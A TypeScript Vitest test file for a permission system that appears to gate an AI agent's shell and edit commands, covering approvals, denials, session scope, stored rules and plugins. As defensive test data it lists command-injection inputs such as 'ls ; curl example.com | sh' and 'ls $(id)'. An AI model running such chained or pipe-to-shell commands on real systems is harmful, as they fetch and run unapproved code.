import { describe, expect, it } from "vitest"
import { EventBus } from "../event/event-bus.js"
import type { PermissionRequest } from "../event/session-events.js"
import { MemoryStorage } from "../storage/memory-storage.js"
import { rulesFromConfig } from "./permission-config.js"
import { PermissionError } from "./permission-error.js"
import { type PermissionPlugins, Permissions } from "./permissions.js"
import { question, scene, waitFor } from "./testing/permission-scene.js"

describe("ask", () => {
  it("resolves without a question when the rules allow everything asked for", async () => {
    const { permissions, events } = scene()
    await permissions.ask(
      question({ patterns: ["git status", "git log"], ruleset: rulesFromConfig("allow") }),
    )
    expect(events).toEqual([])
  })

  it("denies when a rule denies one of the patterns, without asking about the others", async () => {
    const { permissions, events } = scene()
    const ruleset = rulesFromConfig({ bash: { "*": "ask", "rm *": "deny" } })
    const asking = permissions.ask(question({ patterns: ["ls", "rm -r secret-folder"], ruleset }))
    await expect(asking).rejects.toMatchObject({ name: "PermissionError", code: "DENIED" })
    await expect(asking).rejects.not.toThrow("secret-folder")
    expect(events).toEqual([])
  })

  it("tells what it asks, and resolves when somebody allows it", async () => {
    const { permissions, events } = scene()
    const tool = { messageID: "msg_1", callID: "call_1" }
    const asking = permissions.ask(question({ metadata: { command: "ls -l" }, always: ["ls *"], tool }))
    await waitFor(permissions)
    const [request] = permissions.pending() as [PermissionRequest]
    expect(request).toEqual({
      id: expect.stringMatching(/^per_/),
      sessionID: "ses_1",
      permission: "bash",
      patterns: ["ls"],
      metadata: { command: "ls -l" },
      always: ["ls *"],
      tool,
    })
    await permissions.reply(request.id, "once")
    await asking
    const reply = { sessionID: "ses_1", requestID: request.id, reply: "once" }
    expect(events).toEqual([
      ["permission.asked", request],
      ["permission.replied", reply],
    ])
    expect(permissions.pending()).toEqual([])
  })

  it("asks for everything when no patterns are given", async () => {
    const { permissions } = scene()
    const ruleset = rulesFromConfig({ bash: { "*": "deny" } })
    await expect(permissions.ask(question({ patterns: [], ruleset }))).rejects.toMatchObject({
      code: "DENIED",
    })
    const asking = permissions.ask(question({ patterns: [] }))
    await waitFor(permissions)
    expect(permissions.pending()[0]).toMatchObject({ patterns: ["*"], always: ["*"] })
    permissions.rejectAll("ses_1")
    await expect(asking).rejects.toThrow(PermissionError)
  })

  it("takes an answer that a listener gives at once", async () => {
    const { permissions, bus } = scene()
    bus.subscribe("permission.asked", ({ properties }) => permissions.reply(properties.id, "once"))
    await permissions.ask(question())
    expect(permissions.pending()).toEqual([])
  })

  it("withdraws a question when its signal aborts", async () => {
    const { permissions, events } = scene()
    const controller = new AbortController()
    const asking = permissions.ask(question({ signal: controller.signal }))
    await waitFor(permissions)
    const [{ id }] = permissions.pending() as [PermissionRequest]
    controller.abort()
    await expect(asking).rejects.toMatchObject({ code: "WITHDRAWN" })
    expect(permissions.pending()).toEqual([])
    expect(events.at(-1)).toEqual([
      "permission.replied",
      { sessionID: "ses_1", requestID: id, reply: "reject" },
    ])
    await expect(permissions.reply(id, "once")).rejects.toMatchObject({ code: "NOT_FOUND" })
  })

  it("does not ask when its signal has aborted", async () => {
    const { permissions, events } = scene()
    await expect(permissions.ask(question({ signal: AbortSignal.abort() }))).rejects.toMatchObject({
      code: "WITHDRAWN",
    })
    expect(events).toEqual([])
  })

  it("leaves no listener on the signal behind", async () => {
    const { permissions, bus } = scene()
    const controller = new AbortController()
    bus.subscribe("permission.asked", ({ properties }) => permissions.reply(properties.id, "once"))
    await permissions.ask(question({ signal: controller.signal }))
    let replies = 0
    bus.subscribe("permission.replied", () => replies++)
    controller.abort()
    expect(replies).toBe(0)
  })
})

describe("reply", () => {
  it("rejects with what the person said", async () => {
    const { permissions } = scene()
    const asking = permissions.ask(question())
    await waitFor(permissions)
    await permissions.reply(permissions.pending()[0]?.id ?? "", "reject", {
      feedback: "Use the other folder",
    })
    await expect(asking).rejects.toMatchObject({ code: "REJECTED", feedback: "Use the other folder" })
    await expect(asking).rejects.toThrow(/Use the other folder/)
  })

  it("rejects the other questions of the session, and of no other, along with one", async () => {
    const { permissions, events } = scene()
    const first = permissions.ask(question())
    const second = permissions.ask(question({ permission: "edit" }))
    const elsewhere = permissions.ask(question({ sessionID: "ses_2" }))
    await waitFor(permissions, 3)
    const [{ id }] = permissions.pending() as [PermissionRequest]
    await permissions.reply(id, "reject", { feedback: "No" })
    await expect(first).rejects.toMatchObject({ code: "REJECTED", feedback: "No" })
    await expect(second).rejects.toMatchObject({ code: "REJECTED", feedback: undefined })
    expect(permissions.pending().map(({ sessionID }) => sessionID)).toEqual(["ses_2"])
    expect(events.filter(([type]) => type === "permission.replied")).toHaveLength(2)
    await permissions.reply(permissions.pending()[0]?.id ?? "", "once")
    await elsewhere
  })

  it("allows what always stands for in the session, pending questions included, and in no other", async () => {
    const { permissions, events } = scene()
    const first = permissions.ask(question({ patterns: ["git push"], always: ["git *"] }))
    const covered = permissions.ask(question({ patterns: ["git pull"] }))
    const elsewhere = permissions.ask(question({ patterns: ["git pull"], sessionID: "ses_2" }))
    const open = permissions.ask(question({ patterns: ["git add", "rm x"] }))
    await waitFor(permissions, 4)
    await permissions.reply(permissions.pending()[0]?.id ?? "", "always")
    await Promise.all([first, covered])
    expect(permissions.pending().map(({ patterns }) => patterns)).toEqual([["git pull"], ["git add", "rm x"]])
    events.length = 0
    await permissions.ask(question({ patterns: ["git commit"] }))
    expect(events).toEqual([])
    permissions.rejectAll("ses_1")
    permissions.rejectAll("ses_2")
    await expect(open).rejects.toMatchObject({ code: "WITHDRAWN" })
    await expect(elsewhere).rejects.toMatchObject({ code: "WITHDRAWN" })
  })

  it("allows it in all sessions when that is asked for", async () => {
    const { permissions, events } = scene()
    const first = permissions.ask(question({ patterns: ["git push"], always: ["git *"] }))
    const elsewhere = permissions.ask(question({ patterns: ["git pull"], sessionID: "ses_2" }))
    await waitFor(permissions, 2)
    await permissions.reply(permissions.pending()[0]?.id ?? "", "always", { scope: "project" })
    await Promise.all([first, elsewhere])
    events.length = 0
    await permissions.ask(question({ patterns: ["git commit"], sessionID: "ses_3" }))
    expect(events).toEqual([])
  })

  it("takes what is asked for letter by letter: always is no wildcard unless the tool says so", async () => {
    const { permissions } = scene()
    const command = "ls *"
    const asking = permissions.ask(question({ patterns: [command] }))
    await waitFor(permissions)
    expect(permissions.pending()[0]).toMatchObject({ patterns: ["ls *"], always: [String.raw`ls \*`] })
    await permissions.reply(permissions.pending()[0]?.id ?? "", "always")
    await asking
    await permissions.ask(question({ patterns: [command] }))
    const others = ["ls ; curl example.com | sh", "ls -a", "ls \\*", "ls"].map((each) =>
      permissions.ask(question({ patterns: [each] })),
    )
    await waitFor(permissions, others.length)
    permissions.rejectAll("ses_1")
    await Promise.allSettled(others)
  })

  it("lets no pattern of a tool reach beyond an operator of the shell", async () => {
    const { permissions } = scene()
    const asking = permissions.ask(question({ patterns: ["ls -a"], always: ["ls *"] }))
    await waitFor(permissions)
    await permissions.reply(permissions.pending()[0]?.id ?? "", "always")
    await asking
    await permissions.ask(question({ patterns: ["ls -l"] }))
    const risky = ["ls ; id", "ls | sh", "ls & id", "ls && id", "ls\nid", "ls $(id)", "ls `id`", "ls <(id)"]
    const others = [...risky, "ls > x"].map((each) => permissions.ask(question({ patterns: [each] })))
    await waitFor(permissions, others.length)
    permissions.rejectAll("ses_1")
    await Promise.allSettled(others)
  })

  it("counts what the rules allow when it looks for pending questions that are answered", async () => {
    const { permissions } = scene()
    const ruleset = rulesFromConfig({ bash: { "*": "ask", "echo *": "allow" } })
    const asking = permissions.ask(question({ patterns: ["ls"] }))
    const partly = permissions.ask(question({ patterns: ["echo 1", "ls"], ruleset }))
    await waitFor(permissions, 2)
    await permissions.reply(permissions.pending()[0]?.id ?? "", "always")
    await asking
    await expect(partly).resolves.toBeUndefined()
  })

  it("allows this one only, with once", async () => {
    const { permissions } = scene()
    const first = permissions.ask(question())
    await waitFor(permissions)
    await permissions.reply(permissions.pending()[0]?.id ?? "", "once")
    await first
    const second = permissions.ask(question())
    await waitFor(permissions)
    permissions.rejectAll("ses_1")
    await expect(second).rejects.toMatchObject({ code: "WITHDRAWN" })
  })

  it("never lets always override a rule that denies", async () => {
    const { permissions } = scene()
    const asking = permissions.ask(question({ patterns: ["git push"], always: ["*"] }))
    await waitFor(permissions)
    await permissions.reply(permissions.pending()[0]?.id ?? "", "always")
    await asking
    const ruleset = rulesFromConfig({ bash: { "rm *": "deny" } })
    await expect(permissions.ask(question({ patterns: ["rm x"], ruleset }))).rejects.toMatchObject({
      code: "DENIED",
    })
  })

  it("refuses a request that is not pending", async () => {
    const { permissions } = scene()
    await expect(permissions.reply("per_unknown", "once")).rejects.toMatchObject({ code: "NOT_FOUND" })
  })
})

describe("remember", () => {
  it("stores what is allowed for good, once, where another process finds it", async () => {
    const storage = new MemoryStorage()
    const remember = { storage, projectID: "global" }
    const { permissions } = scene({ remember })
    for (const pattern of ["ls", "pwd"]) {
      const asking = [
        permissions.ask(question({ patterns: [pattern] })),
        permissions.ask(question({ patterns: ["x"] })),
      ]
      await waitFor(permissions, 2)
      await permissions.reply(permissions.pending()[0]?.id ?? "", "always", { scope: "project" })
      permissions.rejectAll("ses_1")
      await Promise.allSettled(asking)
    }
    expect(await storage.read(["permission", "global"])).toEqual([
      { permission: "bash", pattern: "ls", action: "allow" },
      { permission: "bash", pattern: "pwd", action: "allow" },
    ])
    const { permissions: later, events } = scene({ remember })
    await later.ask(question({ patterns: ["ls", "pwd"] }))
    expect(events).toEqual([])
  })

  it("loses none of two replies at the same time, and stores a rule only once", async () => {
    const storage = new MemoryStorage()
    const { permissions } = scene({ remember: { storage, projectID: "global" } })
    const asking = ["a", "b", "a"].map((pattern) => permissions.ask(question({ patterns: [pattern] })))
    await waitFor(permissions, 3)
    await Promise.all(
      permissions.pending().map(({ id }) => permissions.reply(id, "always", { scope: "project" })),
    )
    await Promise.all(asking)
    const stored = await storage.read<{ pattern: string }[]>(["permission", "global"])
    expect(stored.map(({ pattern }) => pattern).sort()).toEqual(["a", "b"])
  })

  it("leaves the request pending when the reply cannot be stored", async () => {
    const storage = new MemoryStorage()
    await storage.write(["permission", "global"], [])
    const { permissions } = scene({ remember: { storage, projectID: "global" } })
    const asking = permissions.ask(question())
    await waitFor(permissions)
    await storage.write(["permission", "global"], { not: "a ruleset" })
    const [{ id }] = permissions.pending() as [PermissionRequest]
    const replying = permissions.reply(id, "always", { scope: "project" })
    await expect(replying).rejects.toThrow(/Invalid record/)
    expect(permissions.pending()).toHaveLength(1)
    await permissions.reply(id, "once")
    await asking
  })
})

describe("plugins", () => {
  it.each([
    ["allow", "fulfilled"],
    ["deny", "rejected"],
  ] as const)("may %s what the rules leave open", async (status, outcome) => {
    const { permissions, events } = scene({ plugins: deciding(status) })
    const [result] = await Promise.allSettled([permissions.ask(question())])
    expect(result?.status).toBe(outcome)
    expect(events).toEqual([])
  })

  it("are not asked about what the rules decide", async () => {
    const { permissions } = scene({ plugins: deciding("deny") })
    await permissions.ask(question({ ruleset: rulesFromConfig("allow") }))
    const denied = scene({ plugins: deciding("allow") }).permissions
    await expect(denied.ask(question({ ruleset: rulesFromConfig("deny") }))).rejects.toMatchObject({
      code: "DENIED",
    })
  })

  it("leave it to people when they do not decide", async () => {
    const { permissions } = scene({ plugins: deciding("ask") })
    const asking = permissions.ask(question())
    await waitFor(permissions)
    permissions.rejectAll("ses_1")
    await expect(asking).rejects.toMatchObject({ code: "WITHDRAWN" })
  })
})

it("refuses misspelt options", () => {
  // @ts-expect-error: no such option
  expect(() => new Permissions({ bus: new EventBus(), plugin: {} })).toThrow(/did you mean "plugins"/)
})

it("recognises its errors by their marker and code", () => {
  const error = new PermissionError("DENIED", "no")
  expect(PermissionError.is(error)).toBe(true)
  expect(PermissionError.is(error, "REJECTED")).toBe(false)
  expect(PermissionError.is(new Error("no"))).toBe(false)
})

function deciding(status: "ask" | "allow" | "deny"): PermissionPlugins {
  return { trigger: async () => ({ status }) }
}
